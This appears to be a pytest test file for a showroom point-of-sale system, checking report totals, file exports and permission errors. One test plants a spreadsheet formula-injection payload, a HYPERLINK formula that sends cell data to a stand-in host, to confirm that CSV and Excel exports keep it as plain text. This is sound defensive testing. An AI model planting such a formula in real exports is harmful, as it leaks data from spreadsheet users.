"""Range reports checked against sums the test computes itself from the ledger's tables, and
read back from the PDF, CSV and Excel files they are written to."""

from __future__ import annotations

import csv
import random
from collections import defaultdict
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import func, select

from showroom_pos.db.models import Item, Maker, Refund, RefundLine, SaleLine
from showroom_pos.documents import tables
from showroom_pos.domain.errors import PermissionDenied, ValidationError
from showroom_pos.domain.periods import day_bounds, to_local
from showroom_pos.services.admin import auth
from showroom_pos.services.context import Ledger
from showroom_pos.services.reports import reports
from showroom_pos.services.stock.types import IntakeLineInput, ItemFields, MakerInput
from showroom_pos.services.till.types import CartLine, PaymentInput
from tests.conftest import Showroom, demo_database, opened_copy

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def demo_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return demo_database(tmp_path_factory, now=NOW, seed=21, makers=8, items=120, days=60)


@pytest.fixture
def demo_ledger(demo_file: Path, tmp_path: Path) -> Iterator[Ledger]:
    yield from opened_copy(demo_file, tmp_path, NOW)


def _range(seed: int) -> tuple[date, date]:
    rng = random.Random(seed)
    first = date(2026, 9, 22) + timedelta(days=rng.randrange(40))
    return first, first + timedelta(days=rng.randrange(1, 20))


@pytest.mark.parametrize("by", reports.DIMENSIONS)
@pytest.mark.parametrize("seed", [1, 2])
def test_every_dimension_adds_up_to_the_ledger(demo_ledger: Ledger, by: str, seed: int) -> None:
    first, last = _range(seed)
    actor = auth.login(demo_ledger, username="rina", password="demo-rina")  # the treasurer
    report = reports.sales_report(demo_ledger, actor=actor, first_day=first, last_day=last, by=by)
    start, end = day_bounds(first)[0], day_bounds(last)[1]
    with demo_ledger.read() as session:
        sold = session.scalar(
            select(func.coalesce(func.sum(SaleLine.amount), 0)).where(
                SaleLine.sold_at >= start, SaleLine.sold_at < end, SaleLine.training.is_(False)
            )
        )
        refunded = session.scalar(
            select(func.coalesce(func.sum(Refund.total), 0)).where(
                Refund.refunded_at >= start, Refund.refunded_at < end
            )
        )
        per_maker: dict[str, int] = defaultdict(int)
        per_hour: dict[str, int] = defaultdict(int)
        for code, amount, sold_at in session.execute(
            select(SaleLine.maker_code, SaleLine.amount, SaleLine.sold_at).where(
                SaleLine.sold_at >= start, SaleLine.sold_at < end, SaleLine.training.is_(False)
            )
        ):
            per_maker[code] += amount
            per_hour[f"{to_local(sold_at).hour:02d}"] += amount
        refund_lines = session.scalar(
            select(func.coalesce(func.sum(RefundLine.amount), 0)).where(
                RefundLine.refunded_at >= start, RefundLine.refunded_at < end
            )
        )
    assert report.total_sales == sold
    assert report.total_refunds == (refunded if by == "payment" else refund_lines)
    assert len({row.key for row in report.rows}) == len(report.rows)
    if by == "maker":
        assert {row.key: row.sales for row in report.rows if row.sales} == dict(per_maker)
    if by == "hour":
        assert [row.key for row in report.rows] == sorted(row.key for row in report.rows)
        assert {row.key: row.sales for row in report.rows if row.sales} == dict(per_hour)
    else:
        nets = [row.net for row in report.rows]
        assert nets == sorted(nets, reverse=True)


def test_stock_value_and_aging(demo_ledger: Ledger) -> None:
    actor = auth.login(demo_ledger, username="sari", password="demo-sari")
    rows = reports.stock_by_maker(demo_ledger, actor=actor)
    with demo_ledger.read() as session:
        expected = {
            code: (int(pieces), int(value))
            for code, pieces, value in session.execute(
                select(Maker.code, func.sum(Item.on_hand), func.sum(Item.on_hand * Item.price))
                .join(Item, Item.maker_id == Maker.id)
                .where(Item.on_hand > 0)
                .group_by(Maker.code)
            )
        }
        on_shelf = session.scalar(select(func.count()).where(Item.on_hand > 0))
    assert {r.maker_code: (r.pieces, r.value) for r in rows} == expected
    every = reports.stock_aging(demo_ledger, actor=actor)
    assert len(every) == on_shelf
    assert [r.days for r in every] == sorted((r.days for r in every), reverse=True)
    due = reports.stock_aging(demo_ledger, actor=actor, min_days=30)
    assert due and all(r.days >= 30 for r in due)
    assert {r.item_code for r in due} == {r.item_code for r in every if r.days >= 30}


def test_top_and_slowest_items(demo_ledger: Ledger) -> None:
    actor = auth.login(demo_ledger, username="sari", password="demo-sari")
    top, slow = reports.item_ranking(
        demo_ledger, actor=actor, first_day=date(2026, 10, 1), last_day=date(2026, 10, 31), limit=10
    )
    start, end = day_bounds(date(2026, 10, 1))[0], day_bounds(date(2026, 10, 31))[1]
    with demo_ledger.read() as session:
        best = session.execute(
            select(SaleLine.item_code, func.sum(SaleLine.quantity).label("q"))
            .where(SaleLine.sold_at >= start, SaleLine.sold_at < end, SaleLine.training.is_(False))
            .group_by(SaleLine.item_code)
            .order_by(func.sum(SaleLine.quantity).desc())
            .limit(1)
        ).one()
    assert top[0].sold == best.q
    assert [r.sold for r in top] == sorted((r.sold for r in top), reverse=True)
    assert all(r.on_hand > 0 for r in slow)
    assert [r.sold for r in slow] == sorted(r.sold for r in slow)


def test_files_read_back(demo_ledger: Ledger, tmp_path: Path) -> None:
    actor = auth.login(demo_ledger, username="sari", password="demo-sari")
    report = reports.sales_report(
        demo_ledger,
        actor=actor,
        first_day=date(2026, 10, 1),
        last_day=date(2026, 10, 31),
        by="technique",
    )
    table = tables.sales_table(report)
    for suffix in ("pdf", "csv", "xlsx"):
        tables.write_table(table, tmp_path / f"r.{suffix}")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert rows[-1][0] == "TOTAL" and int(rows[-1][2]) == report.total_sales
    assert sum(int(r[2]) for r in rows[1:-1]) == report.total_sales
    sheet = load_workbook(tmp_path / "r.xlsx").active
    assert sheet is not None
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=5)]
    assert values[-1][0] == "TOTAL" and values[-1][2] == report.total_sales
    assert all(isinstance(v[2], int) for v in values)  # money as numbers, not text
    text = " ".join((PdfReader(tmp_path / "r.pdf").pages[0].extract_text() or "").split())
    assert "LAPORAN PENJUALAN PER TEKNIK" in text and "01-10-2026 s.d. 31-10-2026" in text
    from showroom_pos.domain.money import format_rupiah

    assert f"TOTAL {report.total_quantity} {format_rupiah(report.total_sales)}" in text
    with pytest.raises(ValidationError):
        tables.write_table(table, tmp_path / "r.docx")


def test_refusals(showroom: Showroom) -> None:
    with pytest.raises(PermissionDenied):
        reports.sales_report(
            showroom.ledger,
            actor=showroom.cashier,
            first_day=date(2026, 10, 1),
            last_day=date(2026, 10, 2),
            by="maker",
        )
    with pytest.raises(ValidationError) as backwards:
        reports.sales_report(
            showroom.ledger,
            actor=showroom.supervisor,
            first_day=date(2026, 10, 2),
            last_day=date(2026, 10, 1),
            by="maker",
        )
    assert backwards.value.code == "report.bad_range"
    with pytest.raises(ValidationError):
        reports.sales_report(
            showroom.ledger,
            actor=showroom.supervisor,
            first_day=date(2026, 10, 1),
            last_day=date(2026, 10, 2),
            by="colour",
        )


def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_excel(
    sqlite_showroom: Showroom, tmp_path: Path
) -> None:
    import zipfile

    from showroom_pos.services.stock import consignment, makers
    from showroom_pos.services.till import sales

    hostile = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
    makers.add_maker(
        sqlite_showroom.ledger,
        actor=sqlite_showroom.staff,
        data=MakerInput(code="PKL066", name=hostile),
    )
    slip = consignment.receive_consignment(
        sqlite_showroom.ledger,
        actor=sqlite_showroom.staff,
        maker_code="PKL066",
        lines=[
            IntakeLineInput(1, ItemFields("Taplak cap", "taplak", "cap", 150_000, motif=hostile))
        ],
    )
    sales.complete_sale(
        sqlite_showroom.ledger,
        actor=sqlite_showroom.cashier,
        terminal_code="K1",
        lines=[CartLine(slip.lines[0].item_code)],
        payments=[PaymentInput("cash", 150_000)],
    )
    report = reports.sales_report(
        sqlite_showroom.ledger,
        actor=sqlite_showroom.supervisor,
        first_day=date(2026, 10, 1),
        last_day=date(2026, 10, 31),
        by="motif",
    )
    table = tables.sales_table(report)
    tables.write_table(table, tmp_path / "r.csv")
    tables.write_table(table, tmp_path / "r.xlsx")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    assert "'" + hostile in cells
    with zipfile.ZipFile(tmp_path / "r.xlsx") as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula at all
    sheet = load_workbook(tmp_path / "r.xlsx").active
    assert sheet is not None
    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert hostile in texts  # shown as written, as text
